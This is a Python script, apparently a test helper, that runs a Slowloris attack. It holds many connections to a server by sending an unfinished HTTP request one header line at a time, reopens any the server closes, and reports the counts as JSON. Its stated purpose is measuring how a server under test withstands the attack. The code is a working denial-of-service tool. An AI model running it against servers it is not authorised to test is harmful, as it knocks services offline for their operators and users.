"""Slow HTTP clients against one server, in a process of their own: ``python slowloris.py URL N SECONDS``.

N connections each send a request head one header line every PERIOD seconds
and never finish it; a connection the server closes is opened again at once.
At the end one JSON line on stdout: connections opened, closed by the server,
refused. A separate process, so that the attack does not share an interpreter
(and its GIL) with the test that measures the victim.
"""

from __future__ import annotations

import asyncio
import json
import resource
import sys
import time

PERIOD = 0.5


class Counts:
    opened = 0
    closed_by_server = 0
    refused = 0


async def one(addr: tuple[str, int], i: int, until: float, counts: Counts) -> None:
    await asyncio.sleep(i * 0.001)  # N connects spread over N ms
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(*addr)
        except OSError:
            counts.refused += 1
            await asyncio.sleep(PERIOD)
            continue
        counts.opened += 1
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: victim\r\n")
            while time.monotonic() < until:
                await asyncio.sleep(PERIOD)
                if reader.at_eof():
                    counts.closed_by_server += 1
                    break
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()
        except OSError:
            counts.closed_by_server += 1
        finally:
            writer.close()


async def main(url: str, n: int, seconds: float) -> Counts:
    host, port = url.removeprefix("http://").rsplit(":", 1)
    counts = Counts()
    until = time.monotonic() + seconds
    await asyncio.gather(*(one((host, int(port)), i, until, counts) for i in range(n)))
    return counts


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 2 * int(sys.argv[2]) + 64)), hard))
    c = asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
    print(json.dumps({"opened": c.opened, "closed_by_server": c.closed_by_server, "refused": c.refused}))
